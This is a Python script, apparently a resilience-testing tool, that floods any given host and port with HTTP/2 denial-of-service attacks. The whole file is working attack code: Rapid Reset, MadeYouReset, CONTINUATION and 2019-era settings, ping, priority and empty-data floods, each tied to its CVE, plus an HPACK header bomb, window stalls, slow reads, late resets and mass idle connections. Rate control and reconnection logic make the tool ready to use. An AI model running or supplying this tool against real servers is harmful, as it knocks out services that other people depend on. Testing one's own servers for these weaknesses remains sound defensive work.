"""Floods of HTTP/2: `python3 flood.py KIND HOST PORT SECONDS RATE`, with h2 for an honest start and hyperframe for the rest.

Sends at most RATE frames (or connections) a second for SECONDS and prints one line of JSON about it. A connection that the other
side ends is opened again, up to RECONNECTIONS_MAX times.
"""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
from hpack import Encoder
from hyperframe import frame as frames

RECONNECTIONS_MAX = 2_000
WRITE_BYTES = 65_536
AUTHORITY = "web.test"


def request_headers(path, method="GET"):
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", AUTHORITY),
        (":path", path),
    ]


class Ended(Exception):
    """The other side has ended the connection."""


class Client:
    """One connection: h2 keeps its state, raw frames go past it."""

    def __init__(self, address, window=None):
        self.socket = socket.create_connection(address, timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.initiate_connection()
        if window is not None:
            self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.encoder = Encoder()
        self.encoder.header_table_size = 0
        self.next_stream = 1
        self.seen = {"goaway": 0, "reset": 0, "responses": 0, "bytes": 0}
        self.flush()

    def flush(self):
        self.send(self.h2.data_to_send())

    def send(self, data):
        try:
            if data:
                self.socket.sendall(data)
        except (OSError, socket.timeout) as error:
            raise Ended from error

    def read(self, wait_s=0.0):
        """Takes what has come, for at most `wait_s` if nothing has."""
        while select.select([self.socket], [], [], wait_s)[0]:
            wait_s = 0.0
            try:
                data = self.socket.recv(65_536)
            except OSError as error:
                raise Ended from error
            if not data:
                raise Ended
            self.seen["bytes"] += len(data)
            try:
                events = self.h2.receive_data(data)
            except Exception:  # h2 is strict about states that floods break on purpose
                continue
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.seen["goaway"] += 1
                    raise Ended
                if isinstance(event, h2.events.StreamReset):
                    self.seen["reset"] += 1
                if isinstance(event, h2.events.ResponseReceived):
                    self.seen["responses"] += 1

    def stream(self):
        stream = self.next_stream
        self.next_stream += 2
        return stream

    def headers(self, stream, lines, end_headers=True, end_stream=True):
        made = frames.HeadersFrame(stream, self.encoder.encode(lines, huffman=False))
        if end_headers:
            made.flags.add("END_HEADERS")
        if end_stream:
            made.flags.add("END_STREAM")
        return made.serialize()

    def close(self):
        self.socket.close()


# Each kind is a generator of bytes to send; one item is one frame (or a few that belong together).


def rapid_reset(client):
    """CVE-2023-44487: a request and its reset, again and again."""
    while True:
        stream = client.stream()
        reset = frames.RstStreamFrame(stream, error_code=h2.errors.ErrorCodes.CANCEL)
        yield client.headers(stream, request_headers("/rapid")) + reset.serialize()


def made_you_reset(client):
    """CVE-2025-8671: requests that the server must reset itself."""
    while True:
        stream = client.stream()
        update = b"\x00\x00\x04\x08\x00" + stream.to_bytes(4, "big") + b"\x00\x00\x00\x00"
        yield client.headers(stream, request_headers("/made", "POST"), end_stream=False) + update


def continuation(client):
    """VU#421644: a header block without end."""
    stream = client.stream()
    yield client.headers(stream, request_headers("/endless"), end_headers=False)
    while True:
        block = client.encoder.encode([("x-more", "v" * 100)], huffman=False)
        yield frames.ContinuationFrame(stream, block).serialize()


def empty_continuation(client):
    """As before, with frames that carry nothing."""
    stream = client.stream()
    yield client.headers(stream, request_headers("/endless"), end_headers=False)
    while True:
        yield frames.ContinuationFrame(stream).serialize()


def settings(client):
    """CVE-2019-9515: each wants an acknowledgment, none is read."""
    while True:
        yield frames.SettingsFrame(0, {frames.SettingsFrame.HEADER_TABLE_SIZE: 4096}).serialize()


def ping(client):
    """CVE-2019-9512."""
    while True:
        yield frames.PingFrame(0, b"pingpong").serialize()


def priority(client):
    """CVE-2019-9513."""
    stream = 1
    while True:
        yield frames.PriorityFrame(stream, depends_on=0, stream_weight=stream % 256).serialize()
        stream = stream % 1_000_000 + 2


def empty_data(client):
    """CVE-2019-9518: a body of nothing, without end."""
    stream = client.stream()
    yield client.headers(stream, request_headers("/empty", "POST"), end_stream=False)
    while True:
        yield frames.DataFrame(stream).serialize()


def window_updates(client):
    """Credit by single bytes."""
    while True:
        yield frames.WindowUpdateFrame(0, window_increment=1).serialize()


def header_bomb(client):
    """One large field in the table, named again and again: 16 KB that mean 60 MB."""
    while True:
        stream = client.stream()
        block = client.encoder.encode(request_headers("/bomb"), huffman=False)
        value = b"b" * 4_000
        # Literal with incremental indexing, then that entry, index 62.
        bomb = block + b"\x40\x06x-bomb" + b"\x7f" + bytes([(4_000 - 127) % 128 | 0x80, (4_000 - 127) // 128]) + value
        bomb += b"\xbe" * 10_000
        made = frames.HeadersFrame(stream, bomb)
        made.flags.add("END_HEADERS")
        made.flags.add("END_STREAM")
        yield made.serialize()


def open_streams(client):
    """Requests whose bodies never come."""
    while True:
        yield client.headers(client.stream(), request_headers("/open", "POST"), end_stream=False)


def unknown_frames(client):
    """Frames of a type that nobody knows, which must be ignored."""
    while True:
        yield b"\x00\x00\x08\x40\x00\x00\x00\x00\x00ignored!"


def bad_requests(client):
    """Requests that are refused one by one."""
    while True:
        yield client.headers(client.stream(), [*request_headers("/bad"), ("connection", "close")])


FLOODS = {
    "rapid-reset": (rapid_reset, True),
    "made-you-reset": (made_you_reset, True),
    "continuation": (continuation, True),
    "empty-continuation": (empty_continuation, True),
    "settings": (settings, False),
    "ping": (ping, False),
    "priority": (priority, True),
    "empty-data": (empty_data, True),
    "window-updates": (window_updates, True),
    "header-bomb": (header_bomb, True),
    "open-streams": (open_streams, True),
    "unknown-frames": (unknown_frames, True),
    "bad-requests": (bad_requests, True),
}


def flood(kind, address, until, rate):
    """Runs one of FLOODS; those that are not read from let the answers pile up at the other side."""
    make, reads = FLOODS[kind]
    total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
    started = time.monotonic()
    while time.monotonic() < until and total["connections"] < RECONNECTIONS_MAX:
        try:
            client = Client(address)
        except (OSError, Ended):
            time.sleep(0.05)
            continue
        total["connections"] += 1
        try:
            client.read(0.2)
            source = make(client)
            while time.monotonic() < until:
                allowed = (time.monotonic() - started) * rate
                if total["frames"] >= allowed:
                    time.sleep(0.005)
                    continue
                batch = bytearray()
                while len(batch) < WRITE_BYTES and total["frames"] < allowed:
                    batch += next(source)
                    total["frames"] += 1
                client.socket.settimeout(max(0.1, until - time.monotonic()))
                client.send(bytes(batch))
                if reads:
                    client.read()
        except Ended:
            pass
        finally:
            for name in ("goaway", "reset", "responses"):
                total[name] += client.seen[name]
            client.close()
    return total


def window_stall(address, until, rate):
    """1,000 responses asked for and none taken: streams without window, on as many connections as their limit makes needed."""
    total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
    clients = []
    while total["frames"] < 1_000 and time.monotonic() < until and total["connections"] < 100:
        try:
            client = Client(address, window=0)
            total["connections"] += 1
            clients.append(client)
            client.read(0.2)
            limit = min(client.h2.remote_settings.max_concurrent_streams, 1_000 - total["frames"])
            for _ in range(limit):
                client.send(client.headers(client.stream(), request_headers("/bytes/100000")))
                total["frames"] += 1
        except (OSError, Ended):
            continue
    while time.monotonic() < until:
        time.sleep(0.1)
    for client in clients:
        try:
            client.read()
        except Ended:
            pass
        for name in ("goaway", "reset", "responses"):
            total[name] += client.seen[name]
        client.close()
    return total


def slow_read(address, until, rate):
    """100 large responses taken a byte at a time."""
    total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
    clients = []
    for _ in range(20):
        try:
            client = Client(address, window=1)
            client.read(0.2)
            for _ in range(5):
                client.send(client.headers(client.stream(), request_headers("/bytes/1000000")))
            clients.append(client)
            total["connections"] += 1
        except (OSError, Ended):
            continue
    while time.monotonic() < until:
        for client in clients:
            try:
                for stream in range(1, client.next_stream, 2):
                    client.send(frames.WindowUpdateFrame(stream, window_increment=1).serialize())
                    total["frames"] += 1
                client.read()
            except Ended:
                continue
        time.sleep(0.1)
    for client in clients:
        for name in ("goaway", "reset", "responses"):
            total[name] += client.seen[name]
        client.close()
    return total


def late_reset(address, until, rate):
    """CVE-2023-44487 for whoever stands behind: requests whose bodies never come, reset when they have been passed on."""
    total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
    started = time.monotonic()
    while time.monotonic() < until and total["connections"] < RECONNECTIONS_MAX:
        try:
            client = Client(address)
            total["connections"] += 1
        except (OSError, Ended):
            time.sleep(0.05)
            continue
        try:
            client.read(0.2)
            while time.monotonic() < until:
                streams = [client.stream() for _ in range(100)]
                lines = request_headers("/late", "POST")
                client.send(b"".join(client.headers(stream, lines, end_stream=False) for stream in streams))
                client.read(0.02)
                code = h2.errors.ErrorCodes.CANCEL
                client.send(b"".join(frames.RstStreamFrame(stream, error_code=code).serialize() for stream in streams))
                client.read()
                total["frames"] += 200
                time.sleep(max(0, total["frames"] / rate - (time.monotonic() - started)))
        except Ended:
            pass
        finally:
            for name in ("goaway", "reset", "responses"):
                total[name] += client.seen[name]
            client.close()
    return total


def idle(address, until, rate):
    """1,000 connections that say hello and nothing more."""
    total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
    clients = []
    started = time.monotonic()
    while time.monotonic() < until:
        if len(clients) < 1_000 and len(clients) < (time.monotonic() - started) * 1_000:
            try:
                clients.append(Client(address))
                total["connections"] += 1
            except (OSError, Ended):
                time.sleep(0.05)
        else:
            time.sleep(0.005)
    for client in clients:
        client.close()
    return total


def main():
    kind, host, port, seconds, rate = sys.argv[1:]
    address = (host, int(port))
    until = time.monotonic() + float(seconds)
    others = {"window-stall": window_stall, "slow-read": slow_read, "late-reset": late_reset, "idle": idle}
    if kind in others:
        total = others[kind](address, until, float(rate))
    else:
        total = flood(kind, address, until, float(rate))
    print(json.dumps(total))


main()
